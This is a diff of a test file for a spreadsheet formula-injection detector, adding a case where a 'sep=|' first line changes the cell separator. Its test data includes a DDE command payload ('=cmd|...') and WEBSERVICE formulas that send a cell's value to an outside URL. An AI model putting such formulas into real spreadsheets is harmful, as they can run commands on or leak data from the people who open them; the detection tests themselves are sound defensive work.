@@ -32,6 +32,12 @@ test('a sign that parts cells belongs to the formula in quotes', () => {
   expect(found('1,"=cmd|\'/c a,b;c\'!A0",2')).toEqual([command])
 })
 
+test('the sign that a first line names parts cells too', () => {
+  expect(found('sep=|\n甲|=WEBSERVICE("https://example.com/")|乙\n')).toEqual([
+    '会连到别处的公式WEBSERVICE',
+  ])
+})
+
 describe('a cell that connects elsewhere is found with the function', () => {
   test.each([
     ['=WEBSERVICE("https://example.com/?"&A1)', 'WEBSERVICE'],
